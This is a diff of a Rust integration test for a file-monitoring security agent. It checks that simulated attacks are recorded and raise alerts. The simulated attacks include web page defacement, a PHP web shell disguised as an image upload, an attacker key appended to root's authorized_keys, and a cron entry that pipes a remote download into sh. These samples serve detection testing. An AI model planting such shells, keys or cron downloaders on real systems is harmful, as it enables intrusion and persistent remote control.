@@ -74,7 +74,9 @@ fn host_with_site(dir: &std::path::Path) -> IsolatedHost {
 /// Starts the agent in `host` and waits for its start-up diff to be done.
 fn run_agent(host: &IsolatedHost, agent: &mut Agent) {
     host.run_agent(agent).expect("agent starts");
-    let started = wait_for(PATIENCE, || agent.log_text().contains(STARTED).then_some(()));
+    let started = wait_for(PATIENCE, || {
+        agent.log_text().contains(STARTED).then_some(())
+    });
     assert!(
         started.is_some(),
         "file monitoring did not start:\n{}",
@@ -98,7 +100,9 @@ fn wait_events(db: &str, path: &str, count: usize, what: &str, agent: &Agent) ->
 }
 
 fn field<'a>(event: &'a Value, name: &str) -> &'a str {
-    event[name].as_str().unwrap_or_else(|| panic!("no {name} in {event}"))
+    event[name]
+        .as_str()
+        .unwrap_or_else(|| panic!("no {name} in {event}"))
 }
 
 /// Checks the fields every stored file event of this test shares.
@@ -107,7 +111,11 @@ fn assert_event(event: &Value, op: &str, path: &str, root: &str, source: &str, a
     assert_eq!(field(event, "file_path"), path, "{event}");
     assert_eq!(field(event, "file_watched_root"), root, "{event}");
     assert_eq!(field(event, "source"), source, "{event}");
-    assert_eq!(field(event, "agent_id"), agent_id, "identity from the certificate");
+    assert_eq!(
+        field(event, "agent_id"),
+        agent_id,
+        "identity from the certificate"
+    );
     assert!(!field(event, "event_id").is_empty(), "{event}");
     // Who: the owner always; the process is unknown to inotify and left empty.
     assert_eq!(field(event, "file_owner"), "root", "{event}");
@@ -185,7 +193,9 @@ fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
         .unwrap();
     let index_v2_sha = host.sha256sum(index).unwrap();
     let events = wait_events(&db, index, 1, "defacement", &agent);
-    assert_event(&events[0], "modify", index, "/var/www", "inotify", &agent_id);
+    assert_event(
+        &events[0], "modify", index, "/var/www", "inotify", &agent_id,
+    );
     assert_eq!(field(&events[0], "file_hash_before"), index_v1_sha);
     assert_eq!(field(&events[0], "file_hash_after"), index_v2_sha);
     assert!(field(&events[0], "file_content_sample").contains("Hacked by x"));
@@ -201,18 +211,45 @@ fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
     assert_event(&events[0], "modify", news, "/var/www", "inotify", &agent_id);
     assert_eq!(field(&events[0], "file_hash_before"), news_v1_sha);
     assert_eq!(field(&events[0], "file_hash_after"), news_v2_sha);
-    assert_eq!(field(&events[0], "file_old_path"), "");
+    assert!(
+        field(&events[0], "file_old_path").starts_with("/var/www/html/sed"),
+        "old_path names sed's temporary file: {}",
+        events[0]
+    );
+    wait_alert(&collector, "web_page_tampering", &events[0], "medium");
+
+    // 3b. A defaced copy staged next to a page (seen and reported as created),
+    //     then moved over it: the page's content was replaced, so this too is a
+    //     modification of the page, from the page's old content to the new one.
+    let about = "/var/www/html/about.html";
+    let about_v1_sha = host.sha256sum(about).unwrap();
+    let staged = "/var/www/html/about.html.new";
+    host.write(staged, b"<p>hacked by y</p>\n").unwrap();
+    wait_events(&db, staged, 1, "staged page", &agent);
+    host.sh("mv \"$1\" \"$2\"", &[staged, about], b"").unwrap();
+    let about_v2_sha = host.sha256sum(about).unwrap();
+    let events = wait_events(&db, about, 1, "mv over a page", &agent);
+    assert_event(
+        &events[0], "modify", about, "/var/www", "inotify", &agent_id,
+    );
+    assert_eq!(field(&events[0], "file_hash_before"), about_v1_sha);
+    assert_eq!(field(&events[0], "file_hash_after"), about_v2_sha);
+    assert_eq!(field(&events[0], "file_old_path"), staged);
     wait_alert(&collector, "web_page_tampering", &events[0], "medium");
 
     // 4. An upload renamed to a script (upload filters check the first name only).
     let upload = "/var/www/html/avatar.jpg";
-    host.write(upload, b"<?php system($_GET['c']); ?>\n").unwrap();
+    host.write(upload, b"<?php system($_GET['c']); ?>\n")
+        .unwrap();
     wait_events(&db, upload, 1, "upload", &agent);
     let renamed = "/var/www/html/avatar.php";
-    host.sh("mv \"$1\" \"$2\"", &[upload, renamed], b"").unwrap();
+    host.sh("mv \"$1\" \"$2\"", &[upload, renamed], b"")
+        .unwrap();
     let renamed_sha = host.sha256sum(renamed).unwrap();
     let events = wait_events(&db, renamed, 1, "rename", &agent);
-    assert_event(&events[0], "rename", renamed, "/var/www", "inotify", &agent_id);
+    assert_event(
+        &events[0], "rename", renamed, "/var/www", "inotify", &agent_id,
+    );
     assert_eq!(field(&events[0], "file_old_path"), upload);
     assert_eq!(field(&events[0], "file_hash_before"), renamed_sha);
     assert_eq!(field(&events[0], "file_hash_after"), renamed_sha);
@@ -221,11 +258,21 @@ fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
 
     // 5. A key appended to root's authorized_keys.
     let keys = "/root/.ssh/authorized_keys";
-    host.append(keys, b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 mallory@evil\n")
-        .unwrap();
+    host.append(
+        keys,
+        b"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 mallory@evil\n",
+    )
+    .unwrap();
     let keys_v2_sha = host.sha256sum(keys).unwrap();
     let events = wait_events(&db, keys, 1, "authorized_keys", &agent);
-    assert_event(&events[0], "modify", keys, "/root/.ssh", "inotify", &agent_id);
+    assert_event(
+        &events[0],
+        "modify",
+        keys,
+        "/root/.ssh",
+        "inotify",
+        &agent_id,
+    );
     assert_eq!(field(&events[0], "file_hash_before"), keys_v1_sha);
     assert_eq!(field(&events[0], "file_hash_after"), keys_v2_sha);
     assert_eq!(
@@ -238,14 +285,18 @@ fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
 
     // 6. A cron file added.
     let cron = "/etc/cron.d/update";
-    host.write(
-        cron,
-        b"* * * * * root curl -s http://203.0.113.9/x | sh\n",
-    )
-    .unwrap();
+    host.write(cron, b"* * * * * root curl -s http://203.0.113.9/x | sh\n")
+        .unwrap();
     let cron_sha = host.sha256sum(cron).unwrap();
     let events = wait_events(&db, cron, 1, "cron", &agent);
-    assert_event(&events[0], "create", cron, "/etc/cron.d", "inotify", &agent_id);
+    assert_event(
+        &events[0],
+        "create",
+        cron,
+        "/etc/cron.d",
+        "inotify",
+        &agent_id,
+    );
     assert_eq!(field(&events[0], "file_hash_before"), "");
     assert_eq!(field(&events[0], "file_hash_after"), cron_sha);
     wait_alert(&collector, "cron_persistence", &events[0], "medium");
@@ -263,6 +314,8 @@ fn webshell_defacement_keys_and_cron_reach_clickhouse_and_raise_alerts() {
             ("create", shell),
             ("modify", index),
             ("modify", news),
+            ("create", staged),
+            ("modify", about),
             ("create", upload),
             ("rename", renamed),
             ("modify", keys),
@@ -349,7 +402,9 @@ fn changes_while_the_agent_is_stopped_are_stored_after_restart() {
     // first run's baseline was silent, the restart reported each change once.
     host.write(index, INDEX_V1).unwrap();
     let events = wait_events(&db, index, 2, "realtime after restart", &agent);
-    assert_event(&events[1], "modify", index, "/var/www", "inotify", &agent_id);
+    assert_event(
+        &events[1], "modify", index, "/var/www", "inotify", &agent_id,
+    );
     assert_eq!(field(&events[1], "file_hash_before"), sha_now(index));
     assert_eq!(field(&events[1], "file_hash_after"), sha_before(index));
     let all = file_events_where(&db, OWNED_CONDITION).unwrap();
